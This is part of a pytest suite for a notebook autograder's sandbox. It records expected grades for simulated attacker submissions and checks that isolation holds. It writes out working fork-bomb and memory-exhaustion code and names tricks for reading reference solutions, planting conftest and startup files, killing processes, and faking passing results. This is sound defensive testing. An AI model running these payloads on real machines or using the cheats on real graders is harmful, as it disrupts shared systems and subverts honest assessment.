    ("fork_bomb", "square"): ("error", 0, REPORTED),
    ("fork_bomb", "forward_difference"): ("passed", 2, ""),
    ("allocates_10gb", "square"): ("error", 0, REPORTED),
    ("allocates_10gb", "forward_difference"): ("passed", 2, ""),
    ("fills_tmp", "square"): ("error", 0, REPORTED),
    ("fills_tmp", "forward_difference"): ("passed", 2, ""),
    ("fills_socket_folder", "square"): ("error", 0, REPORTED),
    ("fills_socket_folder", "forward_difference"): ("passed", 2, ""),
    ("unary_minus", "square"): ("passed", 1, ""),
    ("unary_minus", "forward_difference"): ("flagged", 0, "could not be scanned (RecursionError"),
    ("deep_json", "square"): ("error", 0, f"{NB1} is nested too deeply to be a notebook"),
    ("deep_json", "forward_difference"): ("error", 0, f"{NB1} is nested too deeply to be a notebook"),
    ("deep_json", "norm2"): ("error", 0, f"{NB2} is nested too deeply to be a notebook"),
    ("deep_json", "relative_difference"): ("error", 0, f"{NB2} is nested too deeply to be a notebook"),
    ("fifo_notebook", "square"): ("error", 0, f"{NB1} is not a regular file (a FIFO, device or folder)"),
    ("fifo_notebook", "forward_difference"): ("error", 0, f"{NB1} is not a regular file"),
    ("fifo_notebook", "norm2"): ("passed", 1, ""),
    ("fifo_notebook", "relative_difference"): ("passed", 2, ""),
    ("symlinked_folder", "square"): ("error", 0, "symlinked_folder is a symbolic link; the grader does not follow"),
    ("symlinked_folder", "forward_difference"): ("error", 0, "is a symbolic link"),
    ("symlinked_folder", "norm2"): ("error", 0, "is a symbolic link"),
    ("symlinked_folder", "relative_difference"): ("error", 0, "is a symbolic link"),
    ("symlinked_notebook", "square"): ("error", 0, f"{NB1} is a symbolic link; only regular files are graded"),
    ("symlinked_notebook", "forward_difference"): ("error", 0, f"{NB1} is a symbolic link"),
    ("symlinked_notebook", "norm2"): ("missing", 0, f"notebook {NB2} is not in the submission"),  # work/ not followed
    ("symlinked_notebook", "relative_difference"): ("missing", 0, f"notebook {NB2} is not in the submission"),
    # 5. the verification run: what the notebook's check saw does not count
    ("memorized_inputs", "square"): ("failed", 0, "returned 0, expected"),
    ("memorized_inputs", "forward_difference"): ("passed", 2, ""),
    ("detects_verification", "square"): ("failed", 0, "ended before it was done"),
    ("detects_verification", "forward_difference"): ("passed", 2, ""),  # the rest is verified in a fresh run
    ("fakes_result_lines", "square"): ("failed", 0, "returned 0, expected"),  # the fakes never reached the grader
    ("fakes_result_lines", "forward_difference"): ("passed", 2, ""),
    # fake lines while the cells run are dropped by the harness's supervisor (harness.py): nothing was returned
    ("fakes_then_exits", "square"): ("failed", 0, "ended before it was done"),
    ("fakes_then_exits", "forward_difference"): ("failed", 0, "ended before it was done"),
    ("fake_equality", "square"): ("failed", 0, "returned an object of type Liar, which is not a number"),
    ("fake_equality", "forward_difference"): ("passed", 2, ""),
    ("numpy_subclass", "square"): ("failed", 0, "returned 0, expected"),  # sent as a plain array of its data
    ("numpy_subclass", "forward_difference"): ("passed", 2, ""),
    ("returns_nan", "square"): ("failed", 0, "returned nan, expected"),
    ("returns_nan", "forward_difference"): ("passed", 2, ""),
    ("zzz_honest_with_magic", "forward_difference"): ("passed", 2, ""),
}
FOOLED_THE_CHECK = {  # the notebook's check passed: only the verification run stood between them and the points
    ("hidden_pydoc", "square"), ("hidden_pydoc", "forward_difference"), ("hidden_pkgutil", "square"),
    ("hidden_operator", "square"), ("hidden_frame", "square"), ("hidden_reload", "square"),
    ("hidden_timeit", "square"), ("memorized_inputs", "square"), ("detects_verification", "square"),
    ("fakes_result_lines", "square"), ("fakes_then_exits", "square"), ("fake_equality", "square"),
    ("numpy_subclass", "square"), ("returns_nan", "square")}


@pytest.mark.parametrize("key", sorted(EXPECTED), ids=lambda k: f"{k[0]}-{k[1]}")
def test_attack_gets_what_its_code_earns(batch, key):
    student, exercise = key
    status, points, message = EXPECTED[key]
    r = records(batch["report"], student)[exercise]
    assert (r.status, r.points) == (status, points), r.message
    assert message in r.message, r.message
    if status == "failed" and key in FOOLED_THE_CHECK:
        assert r.message.startswith(VERIFIED) and r.flags == [], r.message
    if status != "flagged":
        assert r.flags == []


def test_every_other_record_of_an_attacker_is_a_notebook_it_did_not_hand_in(batch):
    seen = set()
    for r in batch["report"].records:
        if (r.student, r.exercise) in EXPECTED:
            seen.add((r.student, r.exercise))
        elif r.student not in HONEST and r.student != "zzz_honest_with_magic":
            assert (r.status, r.points) == ("missing", 0), r
            assert f"notebook {r.notebook} is not in the submission" in r.message
    assert seen == set(EXPECTED)


def test_plain_kernel_tricks_fooled_the_notebook_but_not_the_verification(batch):
    """What the flagged records say the run gave: the kernel tricks worked in the notebook, not on fresh inputs."""
    for student in ("plain_pydoc", "plain_pkgutil", "plain_operator", "plain_frame", "plain_reload"):
        r = records(batch["report"], student)["square"]
        assert (r.run_status, r.run_points) == ("failed", 0), (student, r.message)
    r = records(batch["report"], "plain_pydoc")["forward_difference"]
    assert (r.run_status, r.run_points) == ("failed", 0)


def test_hidden_attacks_are_not_flagged_so_the_verdict_is_the_verification_runs():
    for student in ("hidden_pydoc", "hidden_pkgutil", "hidden_operator", "hidden_frame", "hidden_reload",
                    "hidden_timeit", "fake_equality", "numpy_subclass", "fakes_result_lines", "fakes_then_exits",
                    "detects_verification", "reads_solutions", "reads_other_students", "writes_files",
                    "kills_everyone", "detached_killer", "fork_bomb"):
        for sources in attacks(["/x"])[student].values():
            for cell_id, source in sources.items():
                assert scan.scan_exercise_source(source, {"np": "numpy", "fixture_checks": "fixture_checks"}) == [], (
                    student, cell_id)


def report_for(batch, student, exercise="square"):
    return report_of(records(batch["report"], student)[exercise].message)


def test_the_answer_is_not_on_the_kernels_file_system(batch):
    found = report_for(batch, "reads_solutions")
    assert found["solutions"] == []
    assert found["root"] == str(ROOT) and found["listing"] == project_entries_in_sandbox()  # no tests/, no notebooks/
    others = report_for(batch, "reads_other_students")
    assert others["notebooks"] == []  # not one .ipynb anywhere: no merged notebook, release or submission
    assert "/notebook" in others["roots"] and "/tmp" in others["roots"]


def test_the_solution_reader_works_where_the_project_is_visible():
    """The reading attack is real: run unsandboxed (here) it finds the reference solution and passes."""
    space = {}
    exec(compile(reads_solutions("ex-square", "square", "x"), "<attack>", "exec"), space)  # noqa: S102
    assert space["_solutions"] == [str(SOLUTIONS / NB1)]
    assert space["square"](7) == 49


def test_planted_files_land_only_in_the_kernels_private_tmp(batch):
    got = report_for(batch, "writes_files")
    made, refused = got["made"], got["refused"]
    assert "/tmp/conftest.py" in made and "/tmp/numpy/__init__.py" in made  # the attack itself works
    assert "/tmp/ipython/profile_default/startup/00-attack.py" in made  # a startup file no later kernel sees
    assert all(p.startswith("/tmp/") and not p.startswith("/tmp/grade-") for p in made), made
    release = str(batch["release"])
    assert any(p.startswith(release) for p in made)  # "the release folder": a path of the private /tmp only
    for folder in ("/notebook", str(sandbox.PACKAGE), str(ROOT), str(ROOT / "notebooks"), str(RELEASE)):
        assert refused[f"{folder}/conftest.py"] in ("EROFS", "EACCES", "EPERM"), (folder, refused.get(f"{folder}/conftest.py"))
        assert f"{folder}/numpy/__init__.py" in refused
    assert refused["/notebook/fixture_checks.py"] in ("EROFS", "EACCES")  # the kernel's working folder
    bound = [p for p in refused if p.startswith("/tmp/grade-") and p.endswith("/conftest.py")]
    assert bound and all(refused[p] in ("EROFS", "EACCES", "EPERM", "ENOENT") for p in bound)  # pytest's rootdir


def test_signals_reach_no_other_process(batch):
    got = report_for(batch, "kills_everyone")
    assert got["sent"] == []  # SIGSTOP/SIGKILL to the parent, every pid 1..4095 and -1: not one delivered
    assert got["ppid"] == 1 and got["visible"] == [1, 2]  # its own PID namespace: the sandbox's init and itself


def test_a_detached_daemon_was_started_and_did_not_survive(batch):
    assert report_for(batch, "detached_killer") == {"daemon": "started"}
    assert batch["survivors"] == []


def test_a_fork_bomb_is_bounded_by_the_process_limit(batch):
    got = report_for(batch, "fork_bomb")
    assert got["error"] == "EAGAIN" and 100 < got["children"] < sandbox.LIMITS.processes


def test_ten_gigabytes_cannot_be_allocated(batch):
    assert report_for(batch, "allocates_10gb") == {"bytearray": "MemoryError", "numpy": "MemoryError"}


def test_a_huge_file_in_tmp_is_cut_at_the_limits(batch):
    got = report_for(batch, "fills_tmp")
    assert got["errors"][0] == "EFBIG" and got["errors"][-1] == "ENOSPC"  # file size, then the tmpfs size
    assert got["on_disk"] <= sandbox.LIMITS.tmp_size


def test_the_kernels_socket_folder_takes_no_files(batch):
    got = report_for(batch, "fills_socket_folder")
    assert got["folder"].startswith("/tmp/grade-") and "/sockets/" in got["folder"]
    assert got["written"] == 0 and got["errors"] in (["EACCES"], ["EPERM"], ["EROFS"])


def test_an_honest_solution_timing_itself_keeps_its_point(batch):
    """%time / %timeit are allowed in exercise cells (scan.SAFE_MAGICS); the verification run must run them too."""
    r = records(batch["report"], "zzz_honest_with_magic")["square"]
    assert (r.status, r.points, r.flags) == ("passed", 1, []), r.message


# ------------------------------------------------------------------------------ the real course
NB4 = "04_check_an_nd_gradient.ipynb"
# gradient_check_n through the course's own checker: the notebook's check cannot tell (check_gradients computes the
# same centered differences of the same cost), the verification run can (its sandbox holds no gradcheck.py)
COURSE_CHECKER = '''from course_utils.gradcheck import check_gradients


def gradient_check_n(cost, parameters, gradients, epsilon=1e-7, print_msg=False):
    result = check_gradients(cost, parameters, gradients, epsilon)
    if print_msg:
        print("There is a mistake in the backward propagation!" if result.difference > 2e-7
              else "Your backward propagation works perfectly fine!")
    return result.difference, result.gradapprox.reshape(-1, 1)
'''
# backward_propagation_n without a backward pass: the same centered differences, reshaped
NUMERICAL_BACKWARD = '''try:
    from course_utils.fastcost import NetworkCost
except ImportError:
    from course_utils.network import NetworkCost


def backward_propagation_n(X, Y, cache):
    (Z1, A1, W1, b1, Z2, A2, W2, b2, Z3, A3, W3, b3) = cache
    parameters = {"W1": W1, "b1": b1, "W2": W2, "b2": b2, "W3": W3, "b3": b3}
    approx = NetworkCost(X, Y).central_differences(parameters, 1e-5)[0]
    gradients, start = {}, 0
    for name in ("W1", "b1", "W2", "b2", "W3", "b3"):
        size = parameters[name].size
        gradients["d" + name] = approx[start:start + size].reshape(parameters[name].shape)
        start += size
    return gradients
'''


def course_students(base):
    """This module's students of the course class (shared_runs.course_class: graded beside the reference solutions,
    student "solutions"): attacks on notebook 04. Returns their folders under base."""
    solution = COURSE_SOLUTIONS / NB4
    students = {
        "course_attacker": {
            "ex-gradient-check-n": COURSE_CHECKER,
            "ex-backward-propagation-n": reads_solutions("ex-backward-propagation-n", "backward_propagation_n",
                                                         "X, Y, cache")},
        "course_memorizer": {"ex-backward-propagation-n": NUMERICAL_BACKWARD},
    }
    for student, sources in students.items():
        (base / student).mkdir()
        (base / student / NB4).write_text(json.dumps(with_sources(solution, sources)), encoding="utf-8")
    return [base / s for s in students]


@pytest.fixture(scope="module")
def course_batch(tmp_path_factory):
    """(report, before, after): the course class (shared_runs.course_class) and the tree hashes of solutions/ and
    notebooks/ around its grading."""
    sandbox_needed()
    if not (COURSE_SOLUTIONS / NB4).is_file() or not (ROOT / "notebooks" / NB4).is_file():
        pytest.skip("the course notebooks are not built yet")
    graded = shared_runs.course_class(tmp_path_factory)
    return graded["report"], graded["before"], graded["after"]


def test_the_course_answer_is_out_of_reach_in_the_real_course(course_batch):
    report, before, after = course_batch
    assert after == before
    honest = records(report, "solutions", NB4)  # the reference solution, graded beside the attacks
    assert honest and all((r.status, r.points) == ("passed", r.max_points) for r in honest.values()), honest
    attacker = records(report, "course_attacker", NB4)
    # the course's checker gives the right results, but is absent from the verification run: the notebook's
    # check says so itself
    r = attacker["gradient_check_n"]
    assert (r.status, r.points) == ("failed", 0), r.message
    assert "gradient_check_n gives the right results, but it uses" in r.message, r.message
    assert "earns no points" in r.message, r.message
    # solutions/ next to course_utils is not in the kernel's file system
    r = attacker["backward_propagation_n"]
    assert (r.status, r.points) == ("error", 0) and r.message.startswith("LookupError: REPORT:"), r.message
    found = report_of(r.message)
    assert found["solutions"] == [] and found["listing"] == project_entries_in_sandbox()
    assert attacker["block_differences"].status == attacker["diagnose"].status == "passed", attacker["diagnose"].message
    assert not any(r.flags for r in attacker.values())


def test_the_courses_own_centered_differences_earn_nothing(course_batch):
    """backward_propagation_n as the course's batched centered differences (NetworkCost.central_differences):
    its results are right, but the verification run's sandbox holds neither the fast cost nor the network, and
    the notebook's check says so itself."""
    report, _, _ = course_batch
    got = records(report, "course_memorizer", NB4)
    r = got["backward_propagation_n"]
    assert (r.status, r.points, r.flags) == ("failed", 0, []), r.message
    assert "backward_propagation_n gives the right results, but it uses NetworkCost" in r.message, r.message
    assert got["gradient_check_n"].status == "passed" and got["gradient_check_n"].points == got["gradient_check_n"].max_points


# ------------------------------------------------------------------------------ one grading run against another
KEEPS_KERNEL_ALIVE = "import time\ntime.sleep(6)\n" + BUGGY_DIFFERENCE  # its fork bomb's children with it


# A one-line cell whose first word names a magic is that magic in an IPython shell with automagic on (IPython's
# default), while the scan and the verification harness, which read a cell with IPython's input transformers alone,
# see plain Python: a call of an undefined `time`. With automagic, `time (square := ...)` defined square in the
# kernel (the notebook's check passed) and `system ('sh' '-c' '...')` ran a shell the scan never saw.
AUTOMAGIC = "time (square := lambda x: x * x)"


def test_a_one_line_cell_is_no_magic_in_the_grading_kernel(tmp_path):
    sandbox_needed()
    folder = tmp_path / "automagic"
    folder.mkdir()
    (folder / NB1).write_text(json.dumps(with_sources(SOLUTIONS / NB1, {"ex-square": AUTOMAGIC})), encoding="utf-8")
    report = g.grade([folder], release=RELEASE, jobs=1, timeout=TIMEOUT, require_sandbox=True, specs=SPECS)
    r = next(r for r in report.records if r.exercise == "square")
    assert r.points == 0 and not r.message.startswith(VERIFIED), r.message  # the notebook's check failed too
    assert "name 'time' is not defined" in r.message or "square" in r.message, r.message


def test_two_grading_runs_do_not_share_a_sandbox(tmp_path):
    """Two grading runs on one machine (two classes at once, two test sessions): a fork bomb in one must not
    keep the other's kernels from starting -- their sandboxes run as uids leased machine-wide."""
    import threading

    sandbox_needed()
    for student in ("bomber", "honest"):
        (tmp_path / student).mkdir()
    bomber = with_sources(SOLUTIONS / NB1, {"ex-square": FORK_BOMB, "ex-forward-difference": KEEPS_KERNEL_ALIVE})
    (tmp_path / "bomber" / NB1).write_text(json.dumps(bomber).replace("@TOKEN@", TOKEN), encoding="utf-8")
    shutil.copy(SOLUTIONS / NB1, tmp_path / "honest" / NB1)
    reports = {}
    if True:  # two default runs: each leases its own uids (sandbox.Lease)
        first = threading.Thread(target=lambda: reports.setdefault("bomber", g.grade(
            tmp_path / "bomber", release=RELEASE, timeout=TIMEOUT, require_sandbox=True, specs=SPECS)))
        first.start()
        try:
            deadline = time.monotonic() + 60
            while len(attack_processes()) < 100 and time.monotonic() < deadline and first.is_alive():
                time.sleep(0.2)
            if len(attack_processes()) < 100:
                pytest.fail("the fork bomb did not go off")  # not the expected failure: not an AssertionError
            reports["honest"] = g.grade(tmp_path / "honest", release=RELEASE, timeout=TIMEOUT, require_sandbox=True,
                                        specs=SPECS)
        finally:
            first.join(timeout=120)
    bomber = [(r.exercise, r.status, r.points) for r in reports["bomber"].records if r.notebook == NB1]
    if bomber != [("square", "error", 0), ("forward_difference", "failed", 0)]:
        pytest.fail(f"the bomber's own grades: {bomber}")
    assert [(r.exercise, r.status, r.points, r.message) for r in reports["honest"].records if r.notebook == NB1] == [
        ("square", "passed", 1, ""), ("forward_difference", "passed", 2, "")]


# ------------------------------------------------------------------------------ one sandbox against another
@pytest.fixture
def cgroups_of():
    """Collects uids whose sandbox cgroups (sandbox.command makes them, grade() removes them) to remove after."""
    uids = []
    yield uids.append
    root, prefix = getattr(sandbox, "CGROUP_ROOT", None), getattr(sandbox, "CGROUP_PREFIX", None)
    for uid in uids if root and prefix else []:
        for controller in getattr(sandbox, "CGROUP_CONTROLLERS", ()):
            try:
                (Path(root) / controller / f"{prefix}{uid}").rmdir()
            except OSError:
                pass


def run_in_sandbox(code, uid, stdin=subprocess.DEVNULL):
    argv = sandbox.command([sys.executable, "-c", textwrap.dedent(code)], uid=uid)
    return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=stdin, text=True,
                            start_new_session=True)


CPU_WORK = """
import sys, time
sys.stdin.readline()  # started, waiting for the go
start = time.perf_counter()
total = 0
for i in range(500_000):
    total += i
print(time.perf_counter() - start, flush=True)
"""
SPINNING_BOMB = """
import os, time
read, write = os.pipe()
children = 0
while children < 5000:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.close(write)
            os.setsid()  # a session (and so a scheduler autogroup) of its own
            os.read(read, 1)  # all start together, once the parent has forked them all
            deadline = time.time() + 30
            while time.time() < deadline:
                pass
        finally:
            os._exit(0)
    children += 1
os.close(write)
print(children, flush=True)
time.sleep(30)
"""


def timed_work(uid, before_go=None):
    """Seconds a fixed CPU loop takes in a sandbox of its own (started, then let go after before_go())."""
    proc = run_in_sandbox(CPU_WORK, uid, stdin=subprocess.PIPE)
    try:
        result = before_go() if before_go else None
        proc.stdin.write("go\n")
        proc.stdin.flush()
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, 9)
            proc.wait()
    assert proc.returncode == 0, err
    return float(out), result


def test_a_spinning_fork_bomb_does_not_starve_the_other_sandboxes(cgroups_of):
    """--nproc bounds how many processes a fork bomb has, not their CPU share: 255 spinning children, each in a
    session (a scheduler autogroup) of its own, made an honest sandbox beside them ~100x slower before the
    sandboxes had a CPU quota (cgroup)."""
    sandbox_needed()
    uid = sandbox.FIRST_UID + 700
    for n in range(3):
        cgroups_of(uid + n)
    alone = min(timed_work(uid)[0] for _ in range(2))
    bomb = run_in_sandbox(SPINNING_BOMB, uid + 1)
    try:
        beside, children = timed_work(uid + 2, lambda: int(bomb.stdout.readline()))
    finally:
        os.killpg(bomb.pid, 9)
        bomb.communicate()
    assert 100 < children < sandbox.LIMITS.processes
    assert beside < 5 * alone + 0.5, (children, alone, beside)


HOLDS_MEMORY = """
import json, os, select, time
import numpy as np
block = 1536 * 2 ** 20
read, write = os.pipe()
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read)
            data = np.ones(block // 8)  # touched: really held
            os.write(write, b"1")
            time.sleep(60)
        except MemoryError:
            os.write(write, b"0")
        finally:
            os._exit(0)
    children.append(pid)
os.close(write)
reports, deadline = b"", time.time() + 5
while len(reports) < len(children) and time.time() < deadline:  # a child killed for memory never reports
    if select.select([read], [], [], 0.5)[0]:
        chunk = os.read(read, 3)
        if not chunk:
            break
        reports += chunk
time.sleep(1)
alive = [pid for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0)]
held = min(reports.count(b"1"), len(alive)) * block  # held at once, at the end
for pid in children:
    try:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    except OSError:
        pass
print(json.dumps({"held": held, "reports": reports.decode(), "alive": len(alive)}))
"""


def test_a_sandbox_cannot_hold_more_memory_than_its_limit(cgroups_of):
    """prlimit --as bounds one process; 3 children of 1.5 GB each would hold 4.5 GB: the sandbox as a whole
    must not (cgroup memory limit)."""
    sandbox_needed()
    cgroups_of(sandbox.FIRST_UID + 703)
    proc = run_in_sandbox(HOLDS_MEMORY, sandbox.FIRST_UID + 703)
    try:
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, 9)
            proc.wait()
    got = json.loads(out.splitlines()[-1]) if out.strip() else {"held": None, "error": err[-500:]}
    assert got["held"] is not None and got["held"] <= sandbox.LIMITS.address_space, got


# ------------------------------------------------------------------------------ the grader's own process
def test_a_huge_exercise_cell_costs_the_grader_little(tmp_path):
    """The static scan runs in the grader's own, unlimited process: IPython's transformer plus ast.parse cost
    ~5 s and ~400 MB per MB of source (3 MB: 16 s, 1.2 GB), so a 20 MB exercise cell (the notebook limit)
    would cost ~2 minutes and ~8 GB before anything runs -- unless its size is capped before scanning."""
    from course_utils import grading

    source = "x = 1\n" * 100_000 + "\n\ndef square(x):\n    return 0\n"  # 600 kB of plain statements
    path = tmp_path / "big" / NB1
    path.parent.mkdir()
    path.write_text(json.dumps(with_sources(SOLUTIONS / NB1, {"ex-square": source})), encoding="utf-8")
    release = g.load_release(RELEASE)
    [sub] = grading.find_submissions([path], release)
    grading.scan_process.scan_untrusted("x = 1\n")  # the parser process starts once per batch: not what is measured here
    start = time.perf_counter()
    grading.prepare(sub, release.notebooks[NB1], path, release)
    assert time.perf_counter() - start < 1.0
